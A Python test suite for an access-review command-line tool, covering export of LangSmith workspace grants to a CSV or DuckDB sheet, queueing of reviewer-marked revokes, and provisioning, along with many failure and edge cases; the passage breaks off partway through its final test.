"""Access-review round trip against a real synced database and the sandbox:
`review export` writes the sheet, a reviewer marks rows, `review queue-revokes` queues them,
provisioning applies them, and the memberships are gone from LangSmith.

Uses the shared ``env`` fixture (``langsmith_access_tests/synced.py``): a copy of one synced
template database and a fresh sandbox serving the same org.
"""

import codecs
import contextlib
import csv
import errno
import getpass
import json
import os
import signal
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import duckdb
import pytest

from langsmith_access import cli
from langsmith_access.api import list_requests, provision, request_grant, request_revoke
from langsmith_access.provisioning import queue
from langsmith_access.provisioning.review import export as review_export
from langsmith_access.provisioning.review import queue_revokes, read_csv_sheet
from langsmith_access.store import export as store_export
from langsmith_access.store.database import AccessDatabase
from langsmith_access_tests.helpers import query


def run_cli(capsys, *argv) -> tuple[int, str, str]:
    code = cli.main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def read_sheet(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as handle:  # the sheet starts with a byte order mark
        return list(csv.DictReader(handle))


def write_sheet(path: Path, rows: list[dict], fieldnames=None) -> None:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=fieldnames or list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def request_count(database) -> int:
    return query(database.path, "SELECT count(*) FROM main.provisioning_requests")[0][0] if has_queue(database) else 0


def has_queue(database) -> bool:
    return bool(query(database.path, "SELECT count(*) FROM information_schema.tables "
                                     "WHERE table_name = 'provisioning_requests'")[0][0])


def active_rows(rows: list[dict], workspace_id: str | None = None) -> list[dict]:
    return [r for r in rows if r["is_disabled"] == "false"
            and (workspace_id is None or r["workspace_id"] == workspace_id)]


def exported_with_one_revoke(capsys, tmp_path: Path) -> Path:
    """``review export`` into ``review.csv``, the first active grant's row marked revoke."""
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    active_rows(rows)[0]["decision"] = "revoke"
    write_sheet(sheet, rows)
    return sheet


def test_export_sheet_lists_current_workspace_grants(env, tmp_path, capsys):
    sandbox, org, database = env
    out = tmp_path / "review.csv"
    code, stdout, _ = run_cli(capsys, "review", "export", "--out", out)
    assert code == 0 and "Wrote" in stdout
    rows = read_sheet(out)
    expected = query(database.path, "SELECT grant_id FROM main.grants WHERE entitlement_type = 'workspace_role'")
    assert sorted(r["grant_id"] for r in rows) == sorted(g for (g,) in expected)
    assert list(rows[0])[-6:] == ["deny_policy_names", "is_scim_managed", "organization_id",
                                  "decision", "reviewer", "reason"]
    assert {r["organization_id"] for r in rows} == {org.organization_id}
    assert all(r["deny_policy_names"] == "" for r in rows)  # no inventory ran: none known
    assert all(r["decision"] == "" and r["entitlement_type"] == "workspace_role" for r in rows)
    assert all(r["email"] and r["workspace_name"] and r["role_name"] and r["held_since"].endswith("Z") for r in rows)

    # One workspace, by name or id; an existing sheet is never overwritten without --force.
    workspace = org.shared_workspaces()[0]
    code, _, err = run_cli(capsys, "review", "export", "--out", out, "--workspace", workspace.id)
    assert code == 2 and "--force" in err
    code, _, _ = run_cli(capsys, "review", "export", "--out", out, "--workspace", workspace.id, "--force")
    assert code == 0
    assert {r["workspace_id"] for r in read_sheet(out)} == {workspace.id}
    # With --include-org-roles, the organization roles of the people with access there: those
    # the workspace lists, and the Organization Admins (implicit Admin of every workspace).
    code, _, _ = run_cli(capsys, "review", "export", "--out", out, "--workspace", workspace.id, "--force",
                         "--include-org-roles")
    sheet = read_sheet(out)
    listed = {r["user_id"] for r in sheet if r["entitlement_type"] == "workspace_role"}
    assert code == 0 and listed and {r["workspace_id"] for r in sheet if r["user_id"] in listed} >= {workspace.id}
    org_admins = {u for (u,) in query(database.path, "SELECT user_id FROM main.users u JOIN main.roles r "
                                      "ON r.role_id = u.org_role_id WHERE r.name = 'ORGANIZATION_ADMIN'")}
    assert {r["user_id"] for r in sheet if r["entitlement_type"] == "organization_role"} == listed | org_admins
    code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / "x.csv", "--workspace", "No Such Team")
    assert code == 2 and "no workspace" in err


def test_the_sheets_columns_are_in_the_documented_order_and_name_the_org_the_database_holds(env, tmp_path):
    """README "Review round trip" lists the columns in this order (spreadsheets and scripts read
    them by position too); a Python caller whose AccessDatabase names no org still gets the org
    the database holds in every row, so queueing the sheet against another org is refused."""
    sandbox, org, database = env
    out, count = review_export.export_review_sheet(AccessDatabase(database.path), tmp_path / "review.csv")
    with open(out, newline="", encoding="utf-8-sig") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == [
        "grant_id", "email", "full_name", "user_id", "is_disabled", "org_role_name", "workspace_name",
        "workspace_id", "role_name", "role_id", "entitlement_type", "held_since", "deny_policy_names",
        "is_scim_managed", "organization_id", "decision", "reviewer", "reason",
    ]
    assert count == len(rows) > 0
    assert {row[header.index("organization_id")] for row in rows} == {org.organization_id}


def test_the_sheet_is_excels_csv_utf8_so_accented_names_survive_a_round_trip_through_excel(env, tmp_path, capsys):
    # Without a byte order mark Excel reads a .csv in the machine's ANSI code page: "José" showed
    # as "JosÃ©", and saving the sheet again wrote that into the row, refused as edited.
    sandbox, org, database = env
    workspace = org.shared_workspaces()[0]
    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
        conn.execute("UPDATE main.review_sheet SET full_name = 'José Núñez', workspace_name = 'Équipe Ω' "
                     "WHERE workspace_id = ?", [workspace.id])
        conn.execute("UPDATE main.workspaces SET display_name = 'Équipe Ω' WHERE workspace_id = ?", [workspace.id])
    out = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", out)[0] == 0
    written = out.read_bytes()
    assert written.startswith(codecs.BOM_UTF8 + b"grant_id,"), written[:20]
    rows = read_sheet(out)
    [marked, *_] = active_rows(rows, workspace.id)
    assert (marked["full_name"], marked["workspace_name"]) == ("José Núñez", "Équipe Ω")
    marked["decision"] = "revoke"
    with open(out, "w", newline="", encoding="utf-8-sig") as handle:  # saved again as "CSV UTF-8"
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", out, "--dry-run", "--json")
    assert code == 0, err
    summary = json.loads(stdout)
    assert (summary["marked"], summary["queued"], summary["rejected"]) == (1, 1, 0), summary


def test_a_sheet_of_the_longest_name_a_file_may_have_is_written_and_a_failed_write_leaves_nothing(
        env, tmp_path, capsys, monkeypatch):
    # 255 bytes is the limit of a file name: the sheet's own name may use all of it (the file it
    # is written to first, aside, must not need more).
    out = tmp_path / ("r" * 251 + ".csv")
    code, _, err = run_cli(capsys, "review", "export", "--out", out)
    assert code == 0, err
    assert read_sheet(out) and sorted(p.name for p in tmp_path.iterdir()) == [out.name]

    # A write that fails half way (a full disk) leaves the old sheet as it was, and nothing aside.
    before = out.read_bytes()

    real_open = open

    def failing_open(path, *args, **kwargs):
        handle = real_open(path, *args, **kwargs)
        if str(path).endswith(".tmp"):
            handle.write("half a sheet")
            handle.close()
            raise OSError(28, "No space left on device")
        return handle

    with monkeypatch.context() as patch:
        patch.setattr(review_export, "open", failing_open, raising=False)  # that module's open only
        code, _, err = run_cli(capsys, "review", "export", "--out", out, "--force")
    assert code == 1 and "No space left on device" in err, err
    assert out.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == [out.name]


def test_a_workspace_sheet_shows_the_organization_admins_whose_admin_no_member_list_shows(env, tmp_path, capsys):
    """Reviewing one workspace, the reviewer must see everyone with access to it: an
    Organization Admin is an implicit Admin there (effective_access, report_implicit_admins)
    without being listed, so the sheet with --include-org-roles carries their organization role."""
    sandbox, org, database = env
    # An Organization Admin taken off a workspace's member list keeps Admin there.
    (workspace_id, user_id, role_id), = query(
        database.path,
        "SELECT g.workspace_id, g.user_id, g.role_id FROM main.grants AS g "
        "JOIN main.users AS u USING (user_id) JOIN main.roles AS r ON r.role_id = u.org_role_id "
        "WHERE g.entitlement_type = 'workspace_role' AND r.name = 'ORGANIZATION_ADMIN' "
        "ORDER BY g.grant_id LIMIT 1",
    )
    request_revoke(user_id, workspace_id, role_id, reason="off the member list")
    assert provision().success
    implicit = [u for (u,) in query(database.path, "SELECT user_id FROM main.report_implicit_admins "
                                                   "WHERE workspace_id = ?", [workspace_id])]
    assert user_id in implicit
    for out in (tmp_path / "review.csv", tmp_path / "review.duckdb"):
        code, _, err = run_cli(capsys, "review", "export", "--out", out, "--workspace", workspace_id,
                               "--include-org-roles")
        assert code == 0, err
        if out.suffix == ".csv":
            sheet = read_sheet(out)
        else:
            with duckdb.connect(str(out), read_only=True) as conn:
                cursor = conn.execute("SELECT * FROM grant_review")
                names = [d[0] for d in cursor.description]
                sheet = [dict(zip(names, values, strict=True)) for values in cursor.fetchall()]
        org_roles = {r["user_id"]: r["role_name"] for r in sheet if r["entitlement_type"] == "organization_role"}
        assert set(implicit) <= set(org_roles), (out, set(implicit) - set(org_roles))
        assert {org_roles[user_id] for user_id in implicit} == {"Organization Admin"}
        assert "Not on the sheet" not in err
    # Without --include-org-roles the sheet leaves them out, and says how many and where to look.
    code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / "plain.csv", "--workspace", workspace_id)
    assert code == 0
    count = len(set(implicit))
    assert f"Not on the sheet: {count} Organization Admin{'s' * (count != 1)} with Admin there" in err, err
    assert "--include-org-roles" in err and "report_implicit_admins" in err
    # The whole org's sheet counts each of them once, however many workspaces they hold Admin in.
    with duckdb.connect(str(database.path)) as conn:  # as if they were off a second member list too
        conn.execute("INSERT INTO main.report_implicit_admins SELECT * REPLACE ('another-workspace' AS workspace_id) "
                     "FROM main.report_implicit_admins WHERE user_id = ? LIMIT 1", [user_id])
    code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / "all.csv")
    assert code == 0 and f"Not on the sheet: {count} Organization Admin{'s' * (count != 1)} with Admin in " \
        "workspaces" in err, err


def test_the_sheet_lists_workspace_roles_by_workspace_then_email_and_organization_roles_last(env, tmp_path, capsys):
    # As SHEET_SQL orders it: one workspace at a time, by email, organization roles last.
    sandbox, org, database = env
    out = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", out, "--include-org-roles")[0] == 0
    rows = read_sheet(out)
    kinds = [row["entitlement_type"] for row in rows]
    assert kinds == sorted(kinds, key=lambda kind: kind != "workspace_role") and "organization_role" in kinds
    workspace_rows = [row for row in rows if row["entitlement_type"] == "workspace_role"]
    assert workspace_rows == sorted(workspace_rows, key=lambda row: (
        row["workspace_name"], row["workspace_id"], row["email"].lower(), row["user_id"]))


def test_an_export_path_that_names_a_directory_is_refused(env, tmp_path, capsys):
    # pathlib drops the '/': it would have written a file named "reviews".
    with pytest.raises(SystemExit) as exit_:
        run_cli(capsys, "review", "export", "--out", f"{tmp_path / 'reviews'}/")
    assert exit_.value.code == 2 and "is not a file name" in capsys.readouterr().err
    assert not (tmp_path / "reviews").exists()


def test_an_export_named_as_another_spreadsheet_format_is_refused(env, tmp_path, capsys):
    # CSV text in review.xlsx: Excel refuses the file (its content does not match its name).
    for name in ("review.xlsx", "Q4 Review.XLSX"):  # named in any case
        code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / name)
        assert code == 2 and "written as CSV" in err and f"{Path(name).stem}.csv" in err, err
        assert not (tmp_path / name).exists()
    # A table name goes with a DuckDB file only: never silently dropped for a CSV sheet.
    code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / "review.csv", "--table", "q4")
    assert code == 2 and "--table applies to a DuckDB file only" in err, err
    assert not (tmp_path / "review.csv").exists()


def test_an_export_into_the_databases_own_files_is_refused(env, capsys):
    sandbox, org, database = env
    for own in (database.path, database.working_path, database.scratch_path):
        before = own.read_bytes() if own.exists() else None
        code, _, err = run_cli(capsys, "review", "export", "--out", own)
        assert code == 2 and "one of langsmith-access's own database files" in err, (own, err)
        assert (own.read_bytes() if own.exists() else None) == before


def test_an_export_into_a_directory_every_publish_replaces_is_refused(env, capsys):
    # The Parquet copy and the docs site are swapped in whole by a publish (`export --out` refuses
    # them too): a sheet written there would vanish, the reviewer's marks with it.
    sandbox, org, database = env
    for published in (database.parquet_path, database.docs_path):
        for name in ("review.csv", "review.duckdb"):
            code, _, err = run_cli(capsys, "review", "export", "--out", published / name)
            assert code == 2 and "which every publish replaces" in err, (published / name, err)
            assert not (published / name).exists()


def test_csv_round_trip_revokes_land_in_the_sandbox(env, tmp_path, capsys):
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    workspace = org.shared_workspaces()[0]
    first, second, kept = active_rows(rows, workspace.id)[:3]
    first["decision"] = "revoke"
    second["decision"] = "REVOKE"
    second["reviewer"], second["reason"] = "alice@sec", "left the team"
    second["grant_id"] = second["grant_id"].upper()  # retyped in the sheet: the same UUIDs
    kept["decision"] = "keep"
    write_sheet(sheet, rows)

    # Dry run: checked against the latest sync, nothing recorded.
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 0 and stdout.count("would queue") >= 2, stdout
    assert request_count(database) == 0

    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet,
                                "--reviewer", "bob@sec", "--reason", "Q4 access review", "--json")
    assert code == 0, (stdout, err)
    summary = json.loads(stdout)
    assert (summary["marked"], summary["queued"], summary["duplicates"], summary["rejected"]) == (2, 2, 0, 0)
    assert summary["rows"] == len(rows)
    requests = {r["request_id"]: r for r in list_requests()}
    by_user = {r["user_id"]: r for r in requests.values()}
    assert set(by_user) == {first["user_id"], second["user_id"]}
    assert all(r["action"] == "revoke" and r["status"] == "pending" for r in requests.values())
    assert (by_user[first["user_id"]]["requested_by"], by_user[first["user_id"]]["reason"]) == ("bob@sec", "Q4 access review")
    assert (by_user[second["user_id"]]["requested_by"], by_user[second["user_id"]]["reason"]) == ("alice@sec", "left the team")
    assert by_user[first["user_id"]]["role_id"] == first["role_id"]

    # The same sheet again: de-duplicated against the queue, nothing new.
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 0 and stdout.count("duplicate") == 2 and "0 queued, 2 already queued or done" in stdout
    assert request_count(database) == 2
    # A dry run says so too, rather than "would queue" what is already queued.
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    summary = json.loads(stdout)
    assert code == 0 and (summary["queued"], summary["duplicates"]) == (0, 2), summary
    assert {o["duplicate_of"] for o in summary["outcomes"]} == set(requests)
    assert request_count(database) == 2

    outcome = provision()
    assert outcome.success, outcome.failure
    assert {r["status"] for r in list_requests()} == {"applied"}
    assert org.membership(workspace.id, first["user_id"]) is None
    assert org.membership(workspace.id, second["user_id"]) is None
    assert org.membership(workspace.id, kept["user_id"]) is not None
    current = {g for (g,) in query(database.path, "SELECT grant_id FROM main.grants")}
    assert first["grant_id"] not in current and second["grant_id"].lower() not in current
    assert kept["grant_id"] in current

    # The same sheet after provisioning: those grants are gone because their revokes were
    # applied; done, not stale, and nothing new is recorded (dry run or not).
    for dry_run in (["--dry-run"], []):
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, *dry_run)
        assert code == 0, stdout
        assert stdout.count("already revoked: request ") == 2 and "2 already queued or done" in stdout, stdout
        assert request_count(database) == 2
    # A grant_id that is no current grant for another reason (here mistyped) is refused, recorded.
    kept["decision"], kept["grant_id"] = "revoke", kept["grant_id"][:-1] + "0"
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 2
    assert stdout.count("unknown grant id") == 1 and "Export a new sheet" in stdout
    rejected = list_requests("rejected")
    assert len(rejected) == 1 and "not a current grant" in rejected[0]["status_detail"]
    # Only a revoke applied after the grant was last given explains it gone: not a revoke that
    # failed, nor one applied before the grant was given again (and taken away by other means).
    with duckdb.connect(str(database.path)) as conn:
        conn.execute("UPDATE main.provisioning_requests SET status = 'failed' WHERE request_id = ?",
                     [by_user[first["user_id"]]["request_id"]])
        conn.execute("INSERT INTO main.grant_history SELECT * REPLACE (valid_to + INTERVAL 1 HOUR AS valid_from, "
                     "valid_to + INTERVAL 2 HOUR AS valid_to) FROM main.grant_history WHERE grant_id = ? "
                     "ORDER BY valid_from DESC LIMIT 1", [second["grant_id"].lower()])
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and stdout.count("unknown grant id") == 3 and "already revoked" not in stdout, stdout


# `review queue-revokes` killed by SIGKILL part-way through a sheet: at the N-th id it draws (each
# queued row draws its request's and its events'), whatever row that falls on.
_QUEUE_REVOKES_KILLED_MID_SHEET = """
import os, signal, sys, uuid
from langsmith_access import cli

ids_drawn, kill_at = 0, int(sys.argv[1])
real_uuid4 = uuid.uuid4

def uuid4():
    global ids_drawn
    ids_drawn += 1
    if ids_drawn == kill_at:
        os.kill(os.getpid(), signal.SIGKILL)
    return real_uuid4()

uuid.uuid4 = uuid4
cli.main(["review", "queue-revokes", *sys.argv[2:]])
"""


def test_a_review_import_killed_mid_sheet_is_finished_by_importing_the_sheet_again(env, tmp_path, capsys):
    # Each row is queued on its own, so a kill leaves the rows before it queued (in the working
    # file, not yet published) and the rest not. Importing the same sheet again is the way out:
    # the rows queued before are duplicates of their pending revokes, the rest are queued, and
    # provisioning revokes each grant exactly once.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    marked = active_rows(rows, org.shared_workspaces()[0].id)[:6]
    for row in marked:
        row["decision"] = "revoke"
    write_sheet(sheet, rows)
    killed = subprocess.run([sys.executable, "-c", _QUEUE_REVOKES_KILLED_MID_SHEET, "7", "--file", str(sheet)],
                            capture_output=True, text=True, timeout=120,
                            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert killed.returncode == -signal.SIGKILL, killed.stdout + killed.stderr
    queued_by_the_killed_one = query(database.working_path, "SELECT count(*) FROM main.provisioning_requests "
                                                            "WHERE status = 'pending'")[0][0]
    assert 0 < queued_by_the_killed_one < len(marked)  # killed part-way through the sheet

    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json")
    assert code == 0, (stdout, err)
    summary = json.loads(stdout)
    assert (summary["queued"], summary["duplicates"], summary["rejected"]) == (
        len(marked) - queued_by_the_killed_one, queued_by_the_killed_one, 0)
    requests = list_requests()
    assert sorted((r["user_id"], r["workspace_id"], r["status"]) for r in requests) == sorted(
        (row["user_id"], row["workspace_id"], "pending") for row in marked)

    assert provision().success
    assert sorted(r["status"] for r in list_requests()) == ["applied"] * len(marked)
    deletes = [entry.path for entry in sandbox.request_log.snapshot() if entry.method == "DELETE"]
    assert len(deletes) == len(set(deletes)) == len(marked)
    assert all(org.membership(row["workspace_id"], row["user_id"]) is None for row in marked)


def test_a_review_import_whose_publish_fails_says_its_rows_were_queued_and_who_publishes_them(
        env, tmp_path, capsys, monkeypatch):
    # A full disk while publishing, after the rows were committed: each row is said as usual (a
    # plain error read as "nothing queued"), then the error: exit 1, nothing to do again.
    sandbox, org, database = env
    sheet = exported_with_one_revoke(capsys, tmp_path)
    room = store_export.stage_parquet_directory

    def no_space(staged, parquet):
        raise OSError(errno.ENOSPC, "No space left on device", str(parquet))

    monkeypatch.setattr(store_export, "stage_parquet_directory", no_space)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 1, (stdout, err)
    assert stdout.startswith("queued ") and "1 queued, 0 already queued or done, 0 rejected" in stdout, stdout
    assert "error: the review's 1 revoke(s) were queued (and its rejected rows recorded), but publishing it" in err
    assert "nothing needs doing again" in err and f"fix: free space on the file system holding {database.path.parent}" in err
    pending = "SELECT count(*) FROM main.provisioning_requests WHERE status = 'pending'"
    assert query(database.working_path, pending) == [(1,)]
    assert request_count(database) == 0  # not published: the disk is full
    assert database.unfinished_publish_path.exists()

    # Imported again once there is room: the row is the revoke queued before, and both are published.
    monkeypatch.setattr(store_export, "stage_parquet_directory", room)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json")
    assert code == 0, (stdout, err)
    assert (json.loads(stdout)["queued"], json.loads(stdout)["duplicates"]) == (0, 1)
    assert query(database.path, pending) == [(1,)] and not database.unfinished_publish_path.exists()


def test_a_grant_scim_manages_is_flagged_on_the_sheet_and_when_its_revoke_is_queued(env, tmp_path, capsys):
    """The identity provider may give a SCIM-managed grant back after its revoke: the reviewer
    sees it on the sheet (grants.is_scim_managed) and again when the row is queued."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    managed = {g for (g,) in query(database.path, "SELECT grant_id FROM main.grants WHERE "
                                                  "entitlement_type = 'workspace_role' AND is_scim_managed")}
    assert managed, "the synced org has SCIM-managed grants"
    assert {r["grant_id"] for r in rows if r["is_scim_managed"] == "true"} == managed
    scim_row = next(r for r in rows if r["is_scim_managed"] == "true")
    plain_row = next(r for r in rows if r["is_scim_managed"] == "false" and r["user_id"] != scim_row["user_id"])
    scim_row["decision"] = plain_row["decision"] = "revoke"
    write_sheet(sheet, rows)

    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert json.loads(stdout)["queued"] == 2  # a dry run counts the rows it would queue
    flagged = {o["grant_id"]: o["scim_managed"] for o in json.loads(stdout)["outcomes"]}
    assert flagged == {scim_row["grant_id"]: True, plain_row["grant_id"]: False}
    for dry_run in (["--dry-run"], []):
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, *dry_run)
        assert code == 0, (stdout, err)
        assert stdout.count("note: SCIM manages this grant") == 1, stdout
        lines = stdout.splitlines()
        note = next(i for i, line in enumerate(lines) if "note: SCIM manages" in line)
        assert scim_row["email"] in lines[note - 1] and "leaves the SCIM group" in lines[note]


def test_a_sheet_exported_from_another_org_is_refused_whole(env, tmp_path, capsys):
    """Another org's sheet queued with the wrong --org: refused before any row, nothing recorded;
    rows named by email, workspace and role would otherwise match people in this org."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    other_org = "00000000-0000-4000-8000-0000000000ee"
    for row in rows[:2]:
        row["decision"], row["organization_id"], row["grant_id"] = "revoke", other_org.upper(), ""
    write_sheet(sheet, rows)
    for dry_run in (["--dry-run"], []):
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, *dry_run)
        assert code == 2, (stdout, err)
        assert f"exported from organization {other_org.upper()}" in err and org.organization_id in err, err
        assert "nothing was queued" in err
    assert request_count(database) == 0
    # Nor is a publish left due: the provisioning sensor would launch a run for nothing.
    assert not database.unfinished_publish_path.exists()
    # The same id in another spelling, or a sheet without the column (written by hand), is this org's.
    rows[0]["organization_id"], rows[1]["organization_id"] = org.organization_id.upper(), ""
    write_sheet(sheet, rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 0 and stdout.count("would queue") >= 2, (stdout, err)


def test_an_organization_id_cell_that_is_no_id_is_said_to_be_edited_not_another_org(env, tmp_path, capsys):
    """A cell shifted or typed over ("garbage", a name) is no organization's id: refused whole as
    for another org, but saying which rows hold what and the value to put back, not that the sheet
    "was exported from organization garbage" (an org to look for that does not exist)."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    for row in active_rows(rows)[:2]:
        row["decision"], row["organization_id"] = "revoke", "Acme Corp"
    write_sheet(sheet, rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 2, (stdout, err)
    assert "the organization_id column of line " in err and " holds 'Acme Corp', which is no organization's id" in err
    assert f"Put back the exported value ({org.organization_id}, for this database's org), or clear the cell." in err
    assert "exported from organization" not in err, err
    assert request_count(database) == 0


def test_a_row_edited_against_its_grant_id_is_rejected_and_names_what_differs(env, tmp_path, capsys):
    """The grant_id decides what is revoked: a reviewer who typed another role over the exported
    one, or moved the row to another workspace, must not have the exported grant revoked
    silently. Case alone is no edit."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    workspace = org.shared_workspaces()[0]
    elsewhere = next(w for w in org.shared_workspaces() if w.display_name.casefold() != workspace.display_name.casefold())
    retyped, moved, recased = active_rows(rows, workspace.id)[:3]
    other_role = next(r.display_name for r in org.roles_by_scope("workspace") if r.display_name != retyped["role_name"])
    retyped.update(decision="revoke", role_name=other_role)
    moved.update(decision="revoke", workspace_name=elsewhere.display_name)
    recased.update(decision="revoke", email=recased["email"].upper(), role_name=recased["role_name"].lower())
    write_sheet(sheet, rows)

    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and "1 would queue, 0 already queued or done, 2 rejected" in stdout, stdout
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json")
    assert code == 2
    outcomes = {o["grant_id"]: o for o in json.loads(stdout)["outcomes"]}
    assert outcomes[recased["grant_id"]]["status"] == "queued"
    for row, edit in ((retyped, f"role_name {other_role!r}"), (moved, f"workspace_name {elsewhere.display_name!r}")):
        outcome = outcomes[row["grant_id"]]
        assert outcome["status"] == "rejected", outcome
        assert f"the row says {edit}" in outcome["message"] and "the grant_id decides" in outcome["message"]
    assert {r["user_id"] for r in list_requests("pending")} == {recased["user_id"]}
    rejected = list_requests("rejected")
    # Recorded with whom and what they name, as `requests` shows them (not only the user id).
    assert sorted(r["user_email"] for r in rejected) == sorted(row["email"] for row in (retyped, moved))
    assert all(r["workspace_name"] and r["role_name"] for r in rejected), rejected


def test_a_row_whose_workspace_was_renamed_since_the_export_is_not_called_edited(env, tmp_path, capsys):
    """The row is as exported; the workspace's name changed since (a review takes weeks). Still
    not queued, but the message says so and how to fix it, not "put the row back as exported"."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    renamed, edited = active_rows(rows)[0], active_rows(rows)[-1]
    assert renamed["workspace_id"] != edited["workspace_id"]
    new_email = next(r for r in active_rows(rows) if r["workspace_id"] not in (
        renamed["workspace_id"], edited["workspace_id"]))
    renamed["decision"] = new_email["decision"] = "revoke"
    edited.update(decision="revoke", workspace_name="Typed Over")
    write_sheet(sheet, rows)
    with duckdb.connect(str(database.path)) as conn:  # as a sync after the rename records it
        conn.execute("UPDATE main.workspaces SET display_name = 'Platform 2' WHERE workspace_id = ?",
                     [renamed["workspace_id"]])
        conn.execute("INSERT INTO main.workspace_history SELECT * REPLACE ('Platform 2' AS display_name, "
                     "now() AS valid_from, NULL AS valid_to) FROM main.workspace_history WHERE workspace_id = ? "
                     "ORDER BY valid_from DESC LIMIT 1", [renamed["workspace_id"]])
        # A member whose email changed since the export, likewise.
        for table in ("users", "grants"):
            conn.execute(f"UPDATE main.{table} SET email = 'renamed@example.com' WHERE user_id = ?",
                         [new_email["user_id"]])
        conn.execute("INSERT INTO main.user_history SELECT * REPLACE ('renamed@example.com' AS email, "
                     "now() AS valid_from, NULL AS valid_to) FROM main.user_history WHERE user_id = ? "
                     "ORDER BY valid_from DESC LIMIT 1", [new_email["user_id"]])
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    outcomes = {o["where"]: o for o in json.loads(stdout)["outcomes"]}
    was_renamed = outcomes[f"line {rows.index(renamed) + 2}"]
    assert code == 2 and was_renamed["status"] == "rejected", stdout
    assert f"workspace_name {renamed['workspace_name']!r}: renamed since" in was_renamed["message"]
    assert "Export a new sheet" in was_renamed["message"] and "Put the row back" not in was_renamed["message"]
    email_changed = outcomes[f"line {rows.index(new_email) + 2}"]
    assert f"email {new_email['email']!r}: renamed since" in email_changed["message"], email_changed
    # A name typed over is still an edit, beside a renamed one too.
    assert "Put the row back as exported" in outcomes[f"line {rows.index(edited) + 2}"]["message"]
    renamed["role_name"] = "Typed Over"
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    where = f"line {rows.index(renamed) + 2}"
    [message] = [o["message"] for o in json.loads(stdout)["outcomes"] if o["where"] == where]
    assert "Put the row back as exported" in message and "renamed since" not in message, message


def test_a_grant_revoked_and_granted_again_since_the_export_is_not_revoked_by_the_old_sheet(env, tmp_path, capsys):
    """A grant's id is its user, workspace and role: taken away and given back after the export,
    it has the same id, and the reviewer judged the earlier one. The sheet's held_since tells
    them apart (here the row's start is put before the grant's, as an older export had it)."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    regranted, same, mangled = active_rows(rows)[:3]
    regranted.update(decision="revoke", held_since="2020-01-01T00:00:00Z")
    same.update(decision="revoke")  # as exported
    mangled.update(decision="revoke", held_since="1/2/2020 3:04")  # a spreadsheet's rewrite: unreadable
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 2
    outcomes = {o["grant_id"]: o for o in json.loads(stdout)["outcomes"]}
    assert outcomes[same["grant_id"]]["status"] == "would_queue"
